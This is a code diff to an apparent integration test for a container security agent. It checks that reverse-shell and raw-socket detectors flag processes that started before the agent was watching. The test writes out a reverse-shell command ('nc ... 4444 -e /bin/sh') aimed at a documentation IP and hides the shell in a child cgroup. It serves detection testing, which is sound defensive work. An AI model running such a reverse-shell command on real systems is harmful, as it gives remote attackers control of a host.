@@ -1,5 +1,5 @@
 import { createHash } from "node:crypto";
-import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, readlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
@@ -10,7 +10,7 @@ import { CONTAINERS, missing } from "../test/requirements.ts";
 import { until } from "../tools/demo/until.ts";
 import { AgentRig } from "../tools/sandbox/agent-rig.ts";
 import { testProgram } from "../tools/sandbox/programs.ts";
-import { Sandbox, type SandboxContainer } from "../tools/sandbox/runc.ts";
+import { Sandbox, type SandboxContainer, unifiedMount } from "../tools/sandbox/runc.ts";
 
 const reason = missing(...CONTAINERS);
 const onKernel = test.skipIf(reason !== "");
@@ -304,6 +304,11 @@ describe("what an active container may run", () => {
   });
 });
 
+function isShellOnSocket(pid: string): boolean {
+  const link = (name: string) => readlinkSync(`/proc/${pid}/${name}`);
+  return link("exe").endsWith("/bin/sh") && link("fd/0").startsWith("socket:");
+}
+
 onKernel("what ran before the agent came up is learned, marked as partly seen, and never stopped", async () => {
   await using sandbox = await Sandbox.open(
     `gabion-before-${process.pid}`,
@@ -313,15 +318,33 @@ onKernel("what ran before the agent came up is learned, marked as partly seen, a
     // Runs nothing anew, which the second agent would rightly stop.
     args: ["/bin/sh", "-c", "/bin/sleep 300; true"],
     programs: PROGRAMS,
+    capabilities: ["CAP_NET_RAW"],
     files: { "/opt/netprobe": executable("netprobe") },
   });
   await web.addAddresses("203.0.113.5");
   void web.exec("/opt/netprobe", "listen", "0.0.0.0", "8080", "60");
+  void web.exec("/opt/netprobe", "raw-held");
+  void web.exec("/opt/netprobe", "serve", "203.0.113.5", "4444", "60");
   await until(
     "it to listen",
     5_000,
     async () => (await web.exec("/opt/netprobe", "tcp", "203.0.113.5", "8080")).output.includes("ok") || undefined,
   );
+  await until(
+    "the other end",
+    5_000,
+    async () => (await web.exec("/opt/netprobe", "tcp", "203.0.113.5", "4444")).output.includes("ok") || undefined,
+  );
+  // Somebody's shell, in a group of its own below the container's.
+  void web.exec("/bin/nc", "203.0.113.5", "4444", "-e", "/bin/sh");
+  const group = join(unifiedMount(), sandbox.scope, "web");
+  const shell = await until("the shell", 5_000, () =>
+    readFileSync(join(group, "cgroup.procs"), "utf8")
+      .split("\n")
+      .find((pid) => pid !== "" && isShellOnSocket(pid)),
+  );
+  mkdirSync(join(group, "below"));
+  writeFileSync(join(group, "below/cgroup.procs"), shell);
   await using rig = await AgentRig.over(sandbox, LearningState.LEARNING, {
     process: { effect: Effect.ALERT },
     network: { effect: Effect.ALERT },
@@ -332,10 +355,17 @@ onKernel("what ran before the agent came up is learned, marked as partly seen, a
   await until("the port", 5_000, () =>
     rig.facts().find(({ kind }) => kind.case === "listen" && kind.value.port === 8080),
   );
+  await until("the connection", 5_000, () =>
+    rig.facts().find(({ kind }) => kind.case === "outbound" && kind.value.port === 4444),
+  );
   await using strict = await AgentRig.over(sandbox, LearningState.ACTIVE, {
-    process: { effect: Effect.BLOCK },
-    network: { effect: Effect.BLOCK },
+    process: { effect: Effect.BLOCK, detectors: { reverse_shell: {} } },
+    network: { effect: Effect.BLOCK, detectors: { raw_socket: {} } },
   });
+  const detected = (detector: string) => strict.audited(detector, (a) => a.decision?.detector === detector);
+  expect((await detected("reverse_shell")).message).toContain("takes its commands from a connection");
+  expect((await detected("raw_socket")).event?.actor?.path).toBe("/opt/netprobe");
+  await strict.audited("the connection", (a) => a.message.includes("`203.0.113.5` tcp/4444"));
   const audit = await strict.audited("the port", (a) => a.message.includes("tcp/8080"));
   expect(audit.deliveryNote).toBe("it ran before it was watched, so nothing was done about it");
   expect(await web.isRunning()).toBe(true);
